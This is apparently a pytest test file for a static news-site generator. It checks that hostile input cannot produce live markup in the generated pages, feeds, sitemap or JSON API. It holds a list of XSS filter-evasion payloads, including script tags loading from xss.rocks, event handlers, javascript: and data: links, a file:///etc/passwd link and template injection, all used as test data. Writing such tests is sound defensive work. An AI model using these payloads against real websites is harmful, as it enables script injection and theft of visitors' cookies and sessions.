"""Hostile content: script payloads (from the OWASP XSS filter evasion cheat sheet) in every place content
reaches the output — headlines, bodies, outlets, every front matter value, file names, translationKey —
and ``javascript:``/``data:`` links in Markdown. None may survive as live markup anywhere: no element,
attribute or URL scheme in any page that the theme itself does not produce, feeds and sitemap that
are well-formed XML with text-only content, and a stories.json without a raw ``<``, ``>`` or ``&``.
Slugs and story ids never leave the output folder.
"""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest

from digest.build import build_site
from digest.config import load_config

# A representative selection of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
# plus breakouts aimed at our own outputs (attribute quotes, XML CDATA, JSON in <script>, Jinja2 syntax).
PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<details open ontoggle=alert(1)>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)' x='",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "{{ cfg.__class__ }}{% print 7*7 %}",
    "\u2028\u2029</script>\u202e<script>alert(1)</script>",
]
# Markdown links and images with schemes that must never come out as a live link.
MARKDOWN_LINKS = """
[plain](javascript:alert(1)) [upper](JAVASCRIPT:alert(1)) [entity](&#106;avascript:alert(1))
[hex entity](&#x6A;avascript:alert(1)) [spaced]( javascript:alert(1) ) [angle](<javascript:alert(1)>)
[vb](vbscript:msgbox(1)) [file](file:///etc/passwd) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[data svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![img](javascript:alert(1)) ![svg](data:image/svg+xml,<svg onload=alert(1)>)
[ref link][r] <javascript:alert(1)> <a href="javascript:alert(1)">raw</a> <img src=x onerror=alert(1)>
[title](https://example.org "x\\" onmouseover=\\"alert(1)") [percent](java%73cript:alert(1))

[r]: javascript:alert(1)
"""
_SCHEMES = re.compile(r"^(javascript|vbscript|data|file|livescript|mocha):", re.I)


class _Schemes:
    """Matches a URL a browser would run or load as a dangerous scheme: as the URL standard says, tabs and
    newlines anywhere and C0 controls or spaces at the ends are dropped first ("java\nscript:" is live)."""

    @staticmethod
    def match(url: str) -> bool:
        return bool(_SCHEMES.match(re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))))


SCHEMES = _Schemes()
# Inert elements Markdown makes from content (a backtick gives <code>): text formatting, never active.
MARKDOWN_TAGS = {"code", "em", "strong", "pre", "blockquote", "ul", "ol", "li", "h2", "h3", "h4", "h5", "h6", "hr", "br",
                 "p", "a", "img"}
MARKDOWN_ATTRS = {("a", "href"), ("a", "title"), ("img", "src"), ("img", "alt"), ("img", "title"), ("ol", "start")}
URL_ATTRS = {"href", "src", "action", "formaction", "background", "data", "poster", "srcset", "xlink:href", "content"}


def _quote(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted scalar


def _file_name(i: int, payload: str) -> str:
    name = re.sub(r"[/\x00-\x1f\u2028\u2029\u202a-\u202e]", "_", payload)[:80]  # names with these are refused
    return f"p{i:02d} {name}.md"


def hostile_files(payloads: list[str] = PAYLOADS) -> dict[str, str]:
    files: dict[str, str] = {}
    for i, p in enumerate(payloads):
        front = {
            "title": f"Harbour story {i} {p}", "source": p, "author": p, "summary": p, "tags": [p, "x"],
            "slug": p, "translationKey": p, "source_url": f"https://example.org/{i}\"><script>alert(1)</script>",
            "lang": "en", "date": f"2024-06-{1 + i % 28:02d}T09:00:00+02:00",
        }
        lines = ["---"] + [f"{k}: {_quote(v) if isinstance(v, str) else json.dumps(v)}" for k, v in front.items()]
        files[_file_name(i, p)] = "\n".join(lines + ["---", f"Body {i} {p}", "", MARKDOWN_LINKS, ""])
        files[f"raw{i:02d}.txt"] = f"{p} Outlet {i}\nHarbour headline number {i} {p}\n\n" \
                                   f"The council met on Tuesday {p} and voted to rebuild the harbour wall, officials said.\n"
    files["links.md"] = "---\ntitle: Links\nlang: en\nsource_url: javascript:alert(1)\n---\n" + MARKDOWN_LINKS
    return files


def benign_files() -> dict[str, str]:
    """The same site with the markup characters taken out of the payloads: what the theme itself produces."""
    return hostile_files([re.sub(r"[<>&\"'`]", "", p) for p in PAYLOADS])


def _build(root: Path, files: dict[str, str], embedder) -> Path:
    content = root / "content"
    for name, text in files.items():
        (content / name).parent.mkdir(parents=True, exist_ok=True)
        (content / name).write_text(text, encoding="utf-8")
    (root / "config.yaml").write_text("title: Hostile\nbase_url: https://example.org/news/\nlanguages: [en, fr]\n",
                                      encoding="utf-8")
    result = build_site(load_config(root), embedder=embedder)
    assert {a.path for a in result.site.articles} == set(files), [str(p) for p in result.problems if p.level == "error"]
    return root / "output"


class Markup(HTMLParser):
    """Every element, attribute and comment of a page, as the browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attrs: set[tuple[str, str]] = set()
        self.urls: list[tuple[str, str, str]] = []
        self.comments: list[str] = []
        self.script_bodies: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self._in_script = tag in ("script", "style")
        for name, value in attrs:
            self.attrs.add((tag, name))
            if name in URL_ATTRS and value is not None:
                self.urls.append((tag, name, value))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.script_bodies.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(path: Path) -> Markup:
    m = Markup()
    m.feed(path.read_text(encoding="utf-8"))
    m.close()
    return m


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory, embedder) -> tuple[Path, Path, Path]:
    base = _build(tmp_path_factory.mktemp("benign"), benign_files(), embedder)
    root = tmp_path_factory.mktemp("hostile")
    out = _build(root, hostile_files(), embedder)
    return base, out, root


def _theme_vocabulary(base: Path) -> tuple[set[str], set[tuple[str, str]], set[str]]:
    tags: set[str] = set()
    attrs: set[tuple[str, str]] = set()
    comments: set[str] = set()
    for page in base.rglob("*.html"):
        m = parse(page)
        tags |= m.tags
        attrs |= m.attrs
        comments |= set(m.comments)
    return tags, attrs, comments


def test_no_live_markup_in_any_page(sites) -> None:
    base, out, _ = sites
    tags, attrs, comments = _theme_vocabulary(base)
    tags |= MARKDOWN_TAGS
    attrs |= MARKDOWN_ATTRS
    assert "script" not in tags and not any(a.startswith("on") for _, a in attrs)  # the theme itself is script-free
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 2 * len(PAYLOADS)
    live: list[str] = []
    for page in pages:
        m = parse(page)
        rel = page.relative_to(out).as_posix()
        live += [f"{rel}: <{t}>" for t in m.tags - tags]
        live += [f"{rel}: <{t} {a}=…>" for t, a in m.attrs - attrs]
        live += [f"{rel}: {t} {a}={v!r}" for t, a, v in m.urls if SCHEMES.match(v) or v.strip().startswith("//")]
        live += [f"{rel}: <!--{c}-->" for c in set(m.comments) - comments]
        live += [f"{rel}: script text {s!r}" for s in m.script_bodies if s.strip()]
    assert live == []


def test_markdown_links_with_bad_schemes_are_not_links(sites) -> None:
    _, out, _ = sites
    page = next(p for p in out.glob("articles/en/*/index.html") if "Links" in p.read_text(encoding="utf-8"))
    m = parse(page)
    hrefs = [v for t, a, v in m.urls if t == "a" and a == "href"]
    assert not [h for h in hrefs if SCHEMES.match(h)]
    assert "https://example.org" in hrefs  # a good link in the same paragraph still works
    assert 'class="source-link"' not in page.read_text(encoding="utf-8")  # source_url: javascript: was dropped


def test_feeds_and_sitemap_are_well_formed_text_only_xml(sites) -> None:
    _, out, _ = sites
    xml_files = sorted(out.rglob("*.xml"))
    assert any(p.name == "atom.xml" for p in xml_files) and (out / "sitemap.xml").is_file()
    allowed = {"{http://www.w3.org/2005/Atom}", "{http://www.sitemaps.org/schemas/sitemap/0.9}", "{http://www.w3.org/1999/xhtml}"}
    for path in xml_files:
        tree = ElementTree.parse(path)  # raises on any markup breakout
        for el in tree.iter():
            ns = el.tag.split("}")[0] + "}"
            assert ns in allowed, f"{path}: unexpected element {el.tag}"
            assert el.get("type") in (None, "text", "text/html", "application/atom+xml"), f"{path}: {el.tag} {el.attrib}"
            for name in ("href", "src"):
                assert not SCHEMES.match(el.get(name) or ""), f"{path}: {el.tag} {name}={el.get(name)!r}"
            if el.tag.endswith("}loc"):
                assert re.fullmatch(r"https://example\.org/news/[0-9a-z/.-]*", el.text or ""), el.text


def test_stories_json_has_no_raw_markup_characters(sites) -> None:
    _, out, _ = sites
    raw = (out / "api/stories.json").read_bytes()
    assert b"<" not in raw and b">" not in raw and b"&" not in raw
    doc = json.loads(raw)
    titles = {a["title"] for s in doc["stories"] for a in s["articles"]}
    assert any(p in t for p in PAYLOADS[:3] for t in titles)  # values are kept (escaped), not mangled
    paths = {a["path"] for s in doc["stories"] for a in s["articles"]}
    assert _file_name(0, PAYLOADS[0]) in paths


def test_slugs_and_story_ids_stay_inside_the_output(sites) -> None:
    _, out, root = sites
    real_out = out.resolve()
    for path in out.rglob("*"):
        assert real_out in path.resolve().parents
        assert not path.is_symlink()
    for name in os.listdir(root):
        assert name in {"content", "output", "config.yaml", ".digest-cache"}, name
    doc = json.loads((out / "api/stories.json").read_text(encoding="utf-8"))
    for s in doc["stories"]:
        assert re.fullmatch(r"[0-9a-z-]+", s["id"])
        for a in s["articles"]:
            assert re.fullmatch(r"/news/articles/[a-z-]+/[0-9a-z-]+/", a["url"]), a["url"]


@pytest.mark.parametrize("url", ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                 "vbscript:msgbox(1)", "//evil.example/x", "java\nscript:alert(1)"])
def test_render_drops_bad_source_urls_even_if_front_matter_let_them_through(tmp_path: Path, url: str) -> None:
    """Defence in depth: the pages refuse a non-http(s) source_url on their own (front matter already does)."""
    from dataclasses import replace

    from digest.render import render_site
    from sitekit import config, sample_site

    site = sample_site()
    bad = replace(site.articles[0], source_url=url)
    story = replace(site.stories[1], canonical=bad, articles=(bad, *site.stories[1].articles[1:]))
    site = replace(site, articles=(bad, *site.articles[1:]), stories=(site.stories[0], story))
    files = render_site(site, config(tmp_path))
    for name, data in files.items():
        if name.endswith(".html"):
            m = Markup()
            m.feed(data.decode("utf-8"))
            assert not [v for t, a, v in m.urls if SCHEMES.match(v) or v.startswith("//evil")], name
